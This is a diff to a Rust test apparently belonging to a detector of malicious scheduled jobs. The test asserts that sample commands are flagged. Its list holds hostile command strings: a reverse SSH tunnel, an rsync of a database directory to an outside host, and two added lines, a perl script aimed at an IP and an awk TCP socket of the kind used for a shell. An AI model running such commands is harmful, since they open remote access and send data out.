@@ -41,6 +41,8 @@ fn a_job_that_lets_others_in_or_blinds_is_an_attack() {
     for command in [
         "ssh -N -R 2222:localhost:22 u@203.0.113.9",
         "rsync -a /srv/db u@203.0.113.9:/b",
+        "perl /var/lib/x/s.pl 203.0.113.9",
+        r#"awk 'BEGIN{s="/inet/tcp/0/x.example/443"}'"#,
     ] {
         assert!(!job(command).is_benign(), "{command}");
     }
